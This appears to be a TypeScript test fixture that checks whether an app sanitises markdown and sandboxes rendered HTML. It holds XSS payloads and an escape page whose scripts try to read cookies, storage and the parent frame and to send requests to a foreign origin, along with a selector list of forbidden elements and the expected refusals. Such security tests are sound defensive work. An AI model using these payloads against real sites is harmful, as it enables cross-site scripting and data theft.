/** Markup that would say so if a page took it for more than text. */
export const markup = '<img src=x onerror=window.__hit=1>';

/** Markdown and HTML that try to run, to load and to lead away; `elsewhere` is an origin that notes its visits. */
export const hostileMarkdown = (elsewhere: string) => `<script>window.__hit=1</script>

${markup}

![pixel](${elsewhere}/pixel.png) <img src="${elsewhere}/image" onload=window.__hit=1>

[press me](javascript:window.__hit=1) [and me](data:text/html,<script>window.__hit=1</script>)

</code></pre><svg onload=window.__hit=1><iframe srcdoc="<script>parent.__hit=1</script>"></iframe>
`;

/** What no element may be that came of such a text. */
export const live =
  'script, iframe, [onload], [onerror], img:not([src^="/api/attachments/"]), a[href^="javascript"], a[href^="data"]';

interface Targets {
  /** Our own origin. */
  product: string;
  /** A foreign one. */
  elsewhere: string;
  /** UDP port of a STUN server. */
  stun: number;
}

/** An HTML page whose scripts try every way out, and write down as JSON what came of each. */
export const escapePage = ({
  product,
  elsewhere,
  stun,
}: Targets) => `<!doctype html><title>Escape</title><h1>Escape</h1>
<link rel="stylesheet" href="${elsewhere}/style"><link rel="preconnect" href="${elsewhere}">
<style>@import '${elsewhere}/import'; h1 { background: url(${elsewhere}/background) }</style>
<iframe srcdoc="<img src='${elsewhere}/nested'>"></iframe><iframe src="${product}/"></iframe>
<script>
const tried = {};
const settle = async (name, act) => {
  try { const came = await act(); tried[name] = came === null ? 'null' : String(came); } catch (error) { tried[name] = error.name; }
};
const load = (tag, given) => new Promise((resolve, reject) => {
  const element = Object.assign(document.createElement(tag), given);
  element.onload = () => resolve('loaded');
  element.onerror = () => reject(new TypeError('It was not loaded.'));
  document.head.append(element);
});
const socket = (url) => new Promise((resolve, reject) => {
  const opening = new WebSocket(url);
  opening.onopen = () => resolve('open');
  opening.onerror = () => reject(new TypeError('It was not opened.'));
});
(async () => {
  await settle('origin', () => self.origin);
  await settle('cookie', () => document.cookie);
  await settle('storage', () => localStorage.length);
  await settle('parent', () => parent.document.title);
  await settle('canary', () => { parent.__hit = 1; });
  await settle('top', () => { top.location = '${elsewhere}/top'; return 'moved'; });
  await settle('popup', () => window.open('${elsewhere}/popup'));
  await settle('dialog', () => alert('x'));
  await settle('own api', () => fetch('${product}/api/chats', { credentials: 'include' }));
  await settle('network', () => fetch('${elsewhere}/fetch', { mode: 'no-cors' }));
  await settle('beacon', () => navigator.sendBeacon('${elsewhere}/beacon'));
  await settle('image', () => load('img', { src: '${elsewhere}/img' }));
  await settle('script', () => load('script', { src: '${elsewhere}/script' }));
  await settle('socket', () => socket('${product.replace('http', 'ws')}/api/ws'));
  const form = Object.assign(document.createElement('form'), { action: '${product}/api/projects', method: 'post', target: '_top' });
  document.body.append(form);
  form.submit();
  document.body.append(Object.assign(document.createElement('pre'), { id: 'tried', textContent: JSON.stringify(tried) }));
})();
</script>
<script>
  const peer = new RTCPeerConnection({ iceServers: [{ urls: 'stun:127.0.0.1:${stun}' }] });
  peer.createDataChannel('out');
  peer.createOffer().then((offer) => peer.setLocalDescription(offer));
</script>`;

/** What comes of it where scripts run. */
export const refused = {
  origin: 'null',
  cookie: 'SecurityError',
  storage: 'SecurityError',
  parent: 'SecurityError',
  canary: 'SecurityError',
  top: 'SecurityError',
  popup: 'null',
  dialog: 'undefined',
  'own api': 'TypeError',
  network: 'TypeError',
  beacon: 'true',
  image: 'TypeError',
  script: 'TypeError',
  socket: 'TypeError',
};
